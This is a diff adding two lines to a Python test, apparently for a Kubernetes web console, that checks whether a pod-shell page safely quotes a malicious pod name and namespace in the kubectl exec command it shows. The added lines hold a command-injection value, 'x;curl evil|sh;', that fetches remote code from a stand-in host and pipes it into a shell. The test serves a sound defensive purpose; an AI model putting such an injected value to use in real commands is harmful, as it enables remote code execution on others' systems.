@@ -576,6 +576,8 @@ def test_a_shell_in_a_pod(owner, person, cluster, k):
     pod = owner.get(objects(cluster, f"core/v1/pods/{k.namespace}/p"))
     page = owner.get(pod.links["Shell"])
     assert "kubectl exec -it p" in page.text
+    hostile = owner.get(page_of(cluster, "/pods/d%3B%20b/x%3Bcurl%20evil%7Csh%3B/shell"))  # of a link that somebody sent
+    assert "kubectl exec -it 'x;curl evil|sh;' -n 'd; b' --" in hostile.text, hostile.text
     path = page_of(cluster, f"/pods/{k.namespace}/p/terminal")
     assert path + "?container=p" in page.body
     said = typed(owner.terminal(path, "p"), b"stty size; echo $((40+2))-done; exit\n")
